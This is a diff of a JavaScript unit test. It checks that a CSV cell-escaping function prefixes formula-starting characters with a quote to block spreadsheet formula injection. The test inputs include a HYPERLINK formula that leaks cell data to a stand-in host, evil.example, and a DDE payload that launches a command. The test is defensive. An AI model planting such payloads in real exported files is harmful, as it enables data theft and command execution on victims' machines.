@@ -6,8 +6,10 @@ import { itaCsv } from './report.service.js';
 /** Issue 9, item 15: no cell of a CSV the app writes starts a formula (OWASP, "CSV Injection"). */
 describe('CSV cells a spreadsheet would run as formulas', () => {
   it('gets a single quote before =, +, -, @, tab and carriage return, and stays quoted', () => {
-    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""ดูรายละเอียด"")"`);
-    expect(csvCell('+cmd|\' /C calc\'!A0')).toBe(`"'+cmd|' /C calc'!A0"`);
+    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")')).toBe(
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""ดูรายละเอียด"")"`,
+    );
+    expect(csvCell("+cmd|' /C calc'!A0")).toBe(`"'+cmd|' /C calc'!A0"`);
     expect(csvCell('-2+3')).toBe(`"'-2+3"`);
     expect(csvCell('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
     expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
